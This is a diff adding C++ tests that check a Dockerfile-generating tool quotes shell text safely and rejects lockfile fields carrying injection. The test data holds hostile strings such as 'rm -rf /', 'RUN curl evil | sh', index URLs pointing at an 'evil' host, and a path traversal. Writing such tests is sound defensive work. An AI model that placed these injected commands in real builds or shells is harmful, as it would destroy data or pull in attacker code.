@@ -1,0 +1,95 @@
+// Text from a lockfile never changes the meaning of a shell line or a Dockerfile.
+#include <catch2/catch.hpp>
+
+#include "bevenv/containers/dockerfile.hpp"
+#include "bevenv/core/error.hpp"
+#include "bevenv/core/subprocess.hpp"
+#include "safe_text.hpp"
+#include "test_locks.hpp"
+
+using namespace bevenv;
+using namespace bevenv::containers;
+
+namespace {
+
+void require_rejected(const lockfiles::Lockfile& lock, const std::string& mentions,
+                      ImageOptions options = {}) {
+  try {
+    render_image_files(lock, options);
+    FAIL("expected the lockfile to be rejected");
+  } catch (const core::Error& e) {
+    CHECK(e.code() == core::ExitCode::bad_input);
+    std::string all = e.what();
+    for (const auto& cause : e.causes()) all += "\n" + cause;
+    INFO(all);
+    CHECK(all.find(mentions) != std::string::npos);
+  }
+}
+
+}  // namespace
+
+TEST_CASE("shell_quote round-trips through sh", "[containers][quoting]") {
+  const std::vector<std::string> texts = {
+      "plain-1.0", "a b", "it's", "$(touch /tmp/pwned)", "`id`", "a;b&&c|d", "back\\slash",
+      "",          "'",   "x\"y", "7.0;8.6+PTX",         "*?[]"};
+  for (const auto& text : texts) {
+    const auto result = core::run_process({"sh", "-c", "printf '%s' " + detail::shell_quote(text)});
+    INFO(text);
+    CHECK(result.exit_code == 0);
+    CHECK(result.out == text);
+  }
+}
+
+TEST_CASE("names, versions and markers that would inject are refused", "[containers][quoting]") {
+  auto lock = test::smoke_lock();
+  lock.packages[0].name = "packaging; rm -rf /";
+  require_rejected(lock, "package[0].name");
+
+  lock = test::smoke_lock();
+  lock.packages[0].version = "24.1 --index-url http://evil";
+  require_rejected(lock, "package[0].version");
+
+  lock = test::smoke_lock();
+  lock.packages[0].markers = "python_version >= \"3\"\n--extra-index-url http://evil";
+  require_rejected(lock, "package[0].markers");
+
+  lock = test::smoke_lock();
+  lock.packages[0].source = {lockfiles::SourceKind::find_links, "http://x/ --trusted-host evil"};
+  require_rejected(lock, "package[0].source.url");
+}
+
+TEST_CASE("Dockerfile-breaking text is refused", "[containers][quoting]") {
+  auto lock = test::uniad_lock();
+  lock.builds[0].commands = {"pip install .\nRUN curl evil | sh"};
+  require_rejected(lock, "build[0].commands[0]");
+
+  lock = test::uniad_lock();
+  lock.builds[0].commands = {"pip install . \\"};
+  require_rejected(lock, "build[0].commands[0]");
+
+  lock = test::smoke_lock();
+  lock.environment.base_image.tag = "debian:bookworm\nRUN evil";
+  require_rejected(lock, "environment.base_image.tag");
+
+  lock = test::bevfusion_lock();
+  lock.builds[0].working_dir = "/workspace/../../etc";
+  ImageOptions with_project;
+  with_project.with_project = true;
+  require_rejected(lock, "working_dir", with_project);
+
+  ImageOptions mirror;
+  mirror.base_image = "mirror.example.org/cuda:11.3 && curl evil";
+  require_rejected(test::smoke_lock(), "--base-image", mirror);
+
+  lock = test::smoke_lock();
+  lock.environment.variables["HTTP_PROXY"] = "http://proxy\nRUN evil";
+  require_rejected(lock, "environment.variables.HTTP_PROXY");
+}
+
+TEST_CASE("ENV values are quoted for the Dockerfile", "[containers][quoting]") {
+  CHECK(detail::dockerfile_quote(R"(a "b" $HOME \c)") == R"("a \"b\" \$HOME \\c")");
+  auto lock = test::smoke_lock();
+  lock.environment.variables["BEVENV_TRICKY"] = R"(a "b" $HOME \c)";
+  const auto files = render_image_files(lock, ImageOptions{});
+  CHECK(files.dockerfile.find(R"(BEVENV_TRICKY="a \"b\" \$HOME \\c")") != std::string::npos);
+}
